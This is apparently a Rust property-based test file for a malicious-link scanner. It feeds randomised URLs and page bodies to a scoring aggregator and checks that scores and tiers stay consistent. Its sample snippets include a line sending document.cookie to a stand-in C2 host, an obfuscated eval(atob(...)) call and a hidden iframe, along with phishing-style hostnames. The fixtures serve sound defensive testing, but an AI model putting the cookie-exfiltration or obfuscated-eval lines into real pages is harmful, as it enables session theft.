use linkward::acquirer::{FetchFailure, FetchOutcome, FetchedDocument};
use linkward::normalizer::PayloadNormalizer;
use linkward::rules::RuleRegistry;
use linkward::scoring::{tier_for, ScanEvidence, ScoringAggregator};
use proptest::prelude::*;
use std::collections::HashSet;
use std::sync::Arc;
use std::time::Duration;
use url::Url;

const SNIPPETS: &[&str] = &[
    "<input type=\"password\">",
    "<input name=\"cvv\">",
    "<iframe width=\"0\" height=\"0\"></iframe>",
    "eval(atob('ZG9jdW1lbnQ='))",
    "window.location='https://elsewhere.example/'",
    "navigator.sendBeacon('https://c2.evil.example/', document.cookie)",
    "navigator.geolocation.getCurrentPosition(f)",
    "<meta http-equiv=\"refresh\" content=\"0\">",
    "<p>plain paragraph</p>",
];

fn url_strategy() -> impl Strategy<Value = String> {
    let scheme = prop::sample::select(vec!["http", "https"]);
    let host = prop::sample::select(vec![
        "example.com",
        "192.168.1.10",
        "paypal-login.secure-update.tk",
        "a.b.c.d.e.example.co.uk",
        "xn--80ak6aa92e.com",
        "123456.example",
    ]);
    let port = prop::option::of(prop::sample::select(vec![8080u16, 8443, 3000]));
    let path = prop::sample::select(vec![
        "/",
        "/login",
        "/wp-admin/",
        "/download/setup.exe",
        "/a/redirect/https://evil.example",
    ]);
    let query = prop::option::of(prop::collection::vec("[a-z]{1,6}", 0..10));

    (scheme, host, port, path, query).prop_map(|(scheme, host, port, path, query)| {
        let mut url = format!("{scheme}://{host}");
        if let Some(port) = port {
            url.push_str(&format!(":{port}"));
        }
        url.push_str(path);
        if let Some(keys) = query {
            let pairs: Vec<String> = keys.iter().map(|k| format!("{k}=1")).collect();
            if !pairs.is_empty() {
                url.push('?');
                url.push_str(&pairs.join("&"));
            }
        }
        url
    })
}

fn outcome_strategy(url: Url) -> impl Strategy<Value = FetchOutcome> {
    let body = prop::collection::vec(prop::sample::select(SNIPPETS.to_vec()), 0..12)
        .prop_map(|parts| parts.concat());
    let status = prop::sample::select(vec![200u16, 200, 404, 500]);
    let hops = 0usize..6;
    let failed = prop::bool::weighted(0.2);

    (body, status, hops, failed).prop_map(move |(body, status, hops, failed)| {
        let mut chain: Vec<Url> = (0..hops)
            .filter_map(|i| Url::parse(&format!("https://hop{i}.example/")).ok())
            .collect();
        chain.push(url.clone());
        if failed {
            FetchOutcome::Failure {
                reason: FetchFailure::Timeout,
                redirect_chain: chain,
            }
        } else {
            FetchOutcome::Success(FetchedDocument {
                final_url: url.clone(),
                status_code: status,
                redirect_chain: chain,
                body,
                truncated: false,
                elapsed: Duration::from_millis(1),
            })
        }
    })
}

fn scan_case() -> impl Strategy<Value = (Url, FetchOutcome)> {
    url_strategy()
        .prop_filter_map("parseable url", |raw| Url::parse(&raw).ok())
        .prop_flat_map(|url| (Just(url.clone()), outcome_strategy(url)))
}

proptest! {
    #[test]
    fn score_is_bounded_and_consistent((url, outcome) in scan_case()) {
        let aggregator = ScoringAggregator::new(Arc::new(RuleRegistry::builtin()));
        let body = outcome.document().map(|d| d.body.as_str()).unwrap_or_default();
        let inspectable = PayloadNormalizer::new().normalize(body, &[] as &[&str]);

        let result = aggregator.score(&ScanEvidence {
            input: url.as_str(),
            evaluated_url: &url,
            outcome: &outcome,
            inspectable: &inspectable,
            scripts_fetched: 0,
            known_threat: false,
            analysis_incomplete: false,
            content_status: String::new(),
        });

        prop_assert!(result.score <= 100);
        prop_assert_eq!(u32::from(result.score), result.raw_score.min(100));
        prop_assert_eq!(result.tier, tier_for(result.score));

        let weight_sum: u32 = result.triggered_rules.iter().map(|r| r.weight).sum();
        prop_assert_eq!(weight_sum, result.raw_score);

        let ids: HashSet<&str> = result.triggered_rules.iter().map(|r| r.id.as_str()).collect();
        prop_assert_eq!(ids.len(), result.triggered_rules.len());

        prop_assert!(!result.redirect_chain.is_empty());
        if outcome.document().is_some() {
            prop_assert_eq!(result.redirect_chain.last(), Some(&result.final_url));
        }
    }

    #[test]
    fn tier_is_monotonic(a in 0u8..=100, b in 0u8..=100) {
        let (lo, hi) = if a <= b { (a, b) } else { (b, a) };
        prop_assert!(tier_for(lo) <= tier_for(hi));
    }
}
